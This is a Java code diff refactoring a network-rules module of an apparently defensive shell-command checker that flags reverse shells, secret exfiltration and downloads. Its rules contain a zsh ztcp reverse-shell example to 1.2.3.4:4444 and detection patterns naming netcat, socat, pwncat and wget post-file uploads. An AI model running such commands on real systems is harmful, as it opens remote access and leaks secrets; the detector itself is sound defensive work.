@@ -11,6 +11,7 @@ import java.util.List;
 import java.util.Locale;
 import java.util.Set;
 import java.util.regex.Pattern;
+import org.jspecify.annotations.Nullable;
 
 /** Reverse shells, exfiltration of secrets and trees, and downloads. */
 final class NetworkRules {
@@ -29,16 +30,23 @@ final class NetworkRules {
         return Programs.dumpsSecrets(up);
     }
 
-    /** Whether a stage reads a secret for later stages (asked once per pipeline stage through {@link Upstream}). */
-    private static final java.util.function.Predicate<Invocation> READS_SECRET = up -> secretRead(up) != null;
+    /**
+     * Whether a stage reads a secret for later stages (asked once per pipeline stage through {@link Upstream}, which
+     * memoises per question object: hence one constant).
+     */
+    private static final java.util.function.Predicate<Invocation> READS_SECRET = NetworkRules::readsSecret;
 
-    static String secretUpstream(Invocation inv) {
+    private static boolean readsSecret(Invocation up) {
+        return secretRead(up) != null;
+    }
+
+    static @Nullable String secretUpstream(Invocation inv) {
         Invocation up = Upstream.first(inv.stdin().upstream(), READS_SECRET);
         return up == null ? null : secretRead(up);
     }
 
     /** What secret a pipeline stage reads (its description), or null. */
-    private static String secretRead(Invocation up) {
+    private static @Nullable String secretRead(Invocation up) {
         {
             if (environmentDump(up)) {
                 return up.name() + " (the environment: tokens, keys, passwords)";
@@ -99,7 +107,7 @@ final class NetworkRules {
     private static final String SSH_VALUE_LETTERS = "BbcDEeFIiJLlmOopQRSWw";
 
     /** The remote forwarding spec of {@code ssh -R} / {@code -o RemoteForward}, or null. */
-    static String reverseForward(Invocation inv) {
+    static @Nullable String reverseForward(Invocation inv) {
         String valueLetters = inv.name().equals("autossh") ? SSH_VALUE_LETTERS + "M" : SSH_VALUE_LETTERS;
         for (int i = 1; i < inv.size(); i++) {
             String t = inv.arg(i).text();
@@ -124,10 +132,13 @@ final class NetworkRules {
         return null;
     }
 
-    private static final java.util.function.Predicate<Invocation> INTERACTIVE_SHELL = up -> {
+    /** An interactive shell upstream (one constant: {@link Upstream} memoises per question object). */
+    private static final java.util.function.Predicate<Invocation> INTERACTIVE_SHELL = NetworkRules::interactiveShell;
+
+    private static boolean interactiveShell(Invocation up) {
         String n = up.name();
-        return Programs.isShell(n) && !up.hasOption('c') || n.equals("sh") && up.operands().isEmpty();
-    };
+        return (Programs.isShell(n) && !up.hasOption('c')) || (n.equals("sh") && up.operands().isEmpty());
+    }
 
     static boolean shellUpstream(Invocation inv) {
         return Upstream.first(inv.stdin().upstream(), INTERACTIVE_SHELL) != null;
@@ -156,7 +167,7 @@ final class NetworkRules {
                     // a bare "</dev/tcp/H/P" (no command) opens and closes a connection: a port probe; a compound or
                     // function call writing to the connection may be a shell ({ bash -i; } >& /dev/tcp/…)
                     boolean writes = inv.redirects().stream().anyMatch(r -> Paths.network(r.target()) && !r.op().equals("<"));
-                    if (inv.argv().isEmpty() && writes || Programs.isShell(n)
+                    if ((inv.argv().isEmpty() && writes) || Programs.isShell(n)
                             || Programs.INTERPRETERS.contains(n) || inv.redirects().stream().anyMatch(
                                     r -> Paths.network(r.target()) && (r.op().equals("<>") || r.op().equals(">&")
                                             || r.op().equals("&>")))) {
@@ -242,7 +253,7 @@ final class NetworkRules {
         return Rule.builder("revshell.zsh-tcp")
                 .says("zsh's ztcp module opening a connection (used for reverse shells)")
                 .on("ztcp", "zmodload")
-                .when(inv -> inv.name().equals("ztcp") && inv.operands().size() >= 2 || inv.hasArg("zsh/net/tcp")
+                .when(inv -> (inv.name().equals("ztcp") && inv.operands().size() >= 2) || inv.hasArg("zsh/net/tcp")
                         ? "ztcp" : null)
                 .examples("zsh -c 'zmodload zsh/net/tcp && ztcp 1.2.3.4 4444 && zsh >&$REPLY 0>&$REPLY'")
                 .counter("zmodload zsh/complist")
@@ -332,7 +343,7 @@ final class NetworkRules {
                     if (n.equals("wget")) {
                         Arg f = inv.optionValue('\0', "--post-file");
                         Arg b = inv.optionValue('\0', "--body-file");
-                        if (f != null && secret(f) || b != null && secret(b)) {
+                        if ((f != null && secret(f)) || (b != null && secret(b))) {
                             return "--post-file";
                         }
                     }
@@ -395,7 +406,7 @@ final class NetworkRules {
                 .review()
                 .says("network download (not executed)")
                 .on("curl", "wget", "aria2c", "fetch", "axel", "lwp-download", "http", "https", "xh", "wget2")
-                .when(inv -> inv.hasOption('\0', "--help", "--version") || inv.hasOption('h') && inv.size() == 2
+                .when(inv -> inv.hasOption('\0', "--help", "--version") || (inv.hasOption('h') && inv.size() == 2)
                         ? null : "download")
                 .examples("curl -o file.tar.gz https://example.com/f.tgz", "wget https://x/y")
                 .counter("curl --help")
@@ -429,8 +440,8 @@ final class NetworkRules {
                 .review()
                 .says("raw network connection (netcat, telnet, socat) carrying whatever is typed or piped")
                 .on("nc", "ncat", "netcat", "socat", "telnet", "nc.traditional", "nc.openbsd", "cryptcat", "pwncat")
-                .when(inv -> listens(inv) || inv.hasOption('z') && NETCATS.contains(inv.name())
-                        || inv.hasOption('h', "--help", "--version") && inv.size() == 2 ? null : "raw network connection")
+                .when(inv -> listens(inv) || (inv.hasOption('z') && NETCATS.contains(inv.name()))
+                        || (inv.hasOption('h', "--help", "--version") && inv.size() == 2) ? null : "raw network connection")
                 .examples("nc host 80", "telnet 192.168.1.10 8080", "socat - TCP4:www.example.com:80")
                 .counter("nc -l 8080", "nc -zv example.com 443", "nc -h")
                 .build();
